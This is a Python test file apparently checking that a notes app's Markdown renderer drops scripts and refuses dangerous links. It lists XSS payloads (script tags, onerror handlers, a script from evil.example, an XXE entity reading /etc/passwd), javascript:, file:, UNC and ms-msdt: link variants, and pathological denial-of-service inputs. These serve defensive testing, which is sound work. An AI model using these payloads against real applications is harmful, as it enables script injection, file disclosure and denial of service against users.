"""Whatever a note contains, its HTML runs nothing, loads nothing from elsewhere, and is bounded."""

import html as escaping
import re
import time
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notesearch.markdown.render import render
from notesearch.markdown.render.link_resolver import allowed_image, allowed_link
from tests.limits import processor_seconds
from tests.markdown.safe_html import check

PROGRAMS = [
    "<script>alert(1)</script>",
    "text <script src=//evil.example/x.js></script> text",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<b onmouseover='alert(1)'>b</b>",
    "<svg onload=alert(1)><path/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='file:///etc/passwd'></object><embed src=x>",
    "<form action=https://evil.example><input name=a><button>Go</button></form>",
    "<link rel=stylesheet href=/etc/hostname>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(file:///etc/passwd)}</style>",
    "<p style='background:url(https://evil.example)'>p</p>",
    "<table background=https://evil.example><tr><td background=x>t</td></tr></table>",
    "<video src=x><source src=y></video><audio src=z>",
    "<a href='https://a.example' onclick=alert(1) style='x' target=_top>a</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<div\n\n<script>alert(1)</script>",
    '```html\n<img src="x" onerror="alert(1)">\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "$$\n<script>alert(1)</script>\n$$",
    "[^<script>]: x\n\ny[^<script>]",
    "> [!<script>alert(1)</script>] <img src=x onerror=alert(1)>\n> x",
    "::: tip <img src=x onerror=alert(1)>\nx\n:::",
    "[[a|<img src=x onerror=alert(1)>]] [[<script>]] ![[<b>.png]]",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|-|\n| <iframe src=x> |",
    '![" onerror="alert(1)](x.png "t")',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
]

DEAD_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///bin/sh",
    "file://host/share",
    "FILE:/etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "\\\\?\\C:\\x.exe",
    "/\\evil.example",
    "C:\\Windows\\x.exe",
    "c:/Windows/x.exe",
    "smb://host/share",
    "ms-msdt:/id",
    "ms-appinstaller:?source=x",
    "obsidian://hook-get-address",
    "vscode://file/x",
    "ssh://host",
    "ftp://host",
    "tel:1",
    "section:1",
    "ui:checked",
    "qrc:/x",
    "http:///no-host",
    "https:",
    "http:\\\\evil",
    "%2F%2Fevil.example",
    "%5C%5Cevil%5Cshare",
    "note://evil\\x",
    "a%00b",
]


@pytest.mark.parametrize("source", PROGRAMS)
def test_scripts_are_dropped_or_become_text(source: str) -> None:
    html = render(source)
    check(html)
    for tag in ("<script", "<iframe", "<object", "<form", "<input", "<style", "<svg", "<link"):
        assert tag not in html


@pytest.mark.parametrize(
    "form", ["[x](<{}>)", "[x]({})", '<a href="{}">x</a>', "<{}>", "[x][r]\n\n[r]: {}"]
)
def test_dangerous_links_are_inert_text(form: str) -> None:
    for address in DEAD_LINKS:
        html = render(form.format(address))
        check(html)
        assert "<a href" not in html or 'href="note:' in html
        for word in ("script:", "file:", "data:", "//evil", "smb:", "obsidian:", "vscode:", "ui:"):
            assert f'href="{word}' not in html


@pytest.mark.parametrize("form", ["![x](<{}>)", '<img src="{}">', "![[{}.png]]"])
def test_dangerous_images_are_not_loaded(form: str) -> None:
    for address in DEAD_LINKS:
        html = render(form.format(address))
        check(html)
        for target in re.findall('src="image:([^"#]*)', html):
            assert not unquote(target).startswith(("/", "\\"))
            assert ":" not in unquote(target)
            assert "\\" not in unquote(target)


def test_addresses_are_refused() -> None:
    for address in DEAD_LINKS:
        read_by_a_browser = escaping.unescape(address)
        assert allowed_link(read_by_a_browser) is None, address
        assert allowed_image(read_by_a_browser) is None, address


@pytest.mark.parametrize("headers", ["attach=/etc/passwd", "subject=a&ATTACHMENT=b", "%61ttach=c"])
def test_a_mail_address_with_unknown_headers_is_no_link(headers: str) -> None:
    """Some mail programs would attach the file that the address names."""
    assert "<a " not in render(f"[x](mailto:a@b.example?{headers})")
    assert "<a " in render("[x](mailto:a@b.example?subject=a&body=b%20c)")


def test_paths_that_leave_the_vault_only_name_a_note() -> None:
    assert render("[x](../../x.desktop)") == '<p><a href="note:..%2F..%2Fx.desktop">x</a></p>\n'


def test_titles_and_alternative_texts_are_escaped() -> None:
    assert render('![<b>"x"](javascript:1)') == "<p>&lt;b&gt;&quot;x&quot;</p>\n"


HOSTILE = {
    "brackets": "[" * 50_000,
    "declarations": "<![" * 20_000,
    "links": "[a](b " * 10_000,
    "lists": "- " * 600,
    "stars": "*" * 4000 + "a" + "*" * 4000,
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "nested quotes": "".join(">" * depth + " a\n" for depth in range(300)),
    "nested tables": "<table><tr><td>" * 20 + "x",
    "nested tables beyond": "<table><tr><td>" * 5000,
    "divs": "<div>" * 20_000,
    "bold": "<b>" * 20_000,
    "callouts": "!!! note\n    " * 5000,
    "containers": ":::tip\n:::\n" * 5000,
    "open containers": "::: tip\n" * 10_000,
    "marks": "==a " * 20_000,
    "comments": "%% " * 30_000,
    "open comment": "<!--" + "x" * 50_000,
    "wikilinks": "[[" * 30_000,
    "footnotes": "[^a]" * 10_000,
    "headings": "# a\n" * 10_000,
    "wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "a|" * 2000 + "\n") * 5,
    "code": "```python\n" + "(" * 60_000 + "\n```",
    "nothing": "\0" * 1000,
    "surrogates": "\ud800 lonely",
}


@pytest.mark.fault("C9, C10")
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_structure_is_bounded(name: str) -> None:
    with processor_seconds(10):
        html = render(HOSTILE[name])
    seen = check(html)
    assert seen.deepest_tables <= 5
    assert html.count("<") <= 26_000


@pytest.mark.fault("C11")
def test_runs_without_a_space_can_be_broken() -> None:
    html = render("x" * 15_000)
    assert max(map(len, html.replace("<p>", "").split("\u200b"))) <= 2100
    chinese = "这是一个没有空格的长段落" * 400
    assert "\u200b" not in render(chinese)


@given(st.text(max_size=400))
def test_any_text_renders_safely(source: str) -> None:
    check(render(source))


SYNTAX = r"""
# |*|_|`|```|~~~|> |>|- |1. |- [ ] |[|]|(|)|![|[[|]]|==|%%|$|$$|:::|::: tip|!!! note|<|>|</|<b>|</b>
<table>|<tr>|<td>|</table>|<div>|<img src=x>|<a href=javascript:1>|<script>|<!--|-->|"|'|&lt;|&#0;
\|^id|[^1]|[^1]: |:|-|---|    |x|é|京|🍜|javascript:|file:|//|{#|}
"""
MARKS = [*filter(None, re.split(r"[|\n]", SYNTAX)), "|", "\n", "\n\n", "\t"]


@given(st.lists(st.sampled_from(MARKS), max_size=40).map("".join))
def test_any_mixture_of_syntax_renders_safely(source: str) -> None:
    check(render(source))


@pytest.mark.parametrize(
    "text",
    [":::a x" + " " * 50_000 + "y", "# a" + " " * 50_000 + "b", "[^a" * 6_000, "^[" * 9_000,
     "![" * 9_000, "![[a" * 4_900, "[[a|" * 4_900, "$$x\n\n" * 900, "- $$x\n" * 700],
    ids=lambda text: text[:6],
)  # fmt: skip
def test_unclosed_syntax_takes_linear_time(text: str) -> None:
    render("warm up")
    started = time.thread_time()
    shown = render(text)
    assert time.thread_time() - started < 0.3
    assert shown


@pytest.mark.parametrize(
    ("heading", "shown"),
    [
        ("Tides {#tides}", "Tides"),
        ("Tides {: .big #a }  ", "Tides"),
        ("Tides {a}", "Tides {a}"),
        ("{#only}", ""),
        ("A {#a} in the middle", "A {#a} in the middle"),
    ],
)
def test_attributes_of_a_heading_are_not_shown(heading: str, shown: str) -> None:
    found = re.sub(r"<[^>]+>", "", render(f"# {heading}"))
    assert escaping.unescape(found).strip() == shown
